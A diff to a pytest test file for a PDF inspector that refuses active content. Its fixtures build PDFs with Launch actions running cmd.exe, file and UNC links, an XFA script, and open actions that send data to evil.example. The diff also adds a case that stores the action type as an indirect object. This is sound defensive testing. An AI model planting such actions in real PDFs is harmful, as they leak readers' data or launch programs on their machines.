@@ -79,7 +79,21 @@ def _xfa(writer: PdfWriter) -> None:
         NameObject("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")})
 
 
+def _on_link_with_indirect_type(kind: str):  # type: ignore[no-untyped-def]
+    """The action type stored as its own object (``/S 12 0 R``), as a viewer follows it."""
+    def change(writer: PdfWriter) -> None:
+        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id"))
+        annotation = writer.pages[0]["/Annots"][0].get_object()
+        annotation[NameObject("/A")] = DictionaryObject({
+            NameObject("/S"): writer._add_object(NameObject(kind)),
+            NameObject("/F"): TextStringObject("cmd.exe")})
+    return change
+
+
 @pytest.mark.parametrize("change", [
+    _on_link_with_indirect_type("/Launch"),
+    _on_link("/URI", URI=TextStringObject("file:///C:/Windows/System32/cmd.exe")),
+    _on_link("/URI", URI=TextStringObject("\\\\evil\\share\\x")),
     _open_action("/URI", URI=TextStringObject("https://evil.example/leak")),
     _open_action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
     _open_action("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")),
@@ -87,8 +101,8 @@ def _xfa(writer: PdfWriter) -> None:
     _on_link("/Launch", F=TextStringObject("cmd.exe")),
     _on_link("/ImportData", F=TextStringObject("data.fdf")),
     _xfa,
-], ids=["open-uri", "open-submit", "open-unc-file", "link-unc-file", "link-launch",
-        "link-import", "xfa"])
+], ids=["indirect-launch", "link-file-uri", "link-unc-uri", "open-uri", "open-submit",
+        "open-unc-file", "link-unc-file", "link-launch", "link-import", "xfa"])
 def test_i3_actions_that_send_data_or_open_other_files_are_refused(change) -> None:  # type: ignore[no-untyped-def]
     assert PypdfInspector().inspect(_pdf(change)) == RefusedDocument("active_content")
 
@@ -99,8 +113,10 @@ def _open_at_page_one(writer: PdfWriter) -> None:
 
 @pytest.mark.parametrize("change", [
     lambda w: w.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id")),
+    lambda w: w.add_annotation(0, Link(rect=(50, 50, 200, 80),
+                                       url="mailto:sekretariat@example.go.id")),
     _open_at_page_one,
     _open_action("/GoTo", D=TextStringObject("halaman-1")),
-], ids=["web-link", "open-at-page", "open-goto-action"])
+], ids=["web-link", "mail-link", "open-at-page", "open-goto-action"])
 def test_i3_a_letterhead_link_or_opening_at_a_page_is_plain(change) -> None:  # type: ignore[no-untyped-def]
     assert PypdfInspector().inspect(_pdf(change)) == PlainPdf(pages=1)
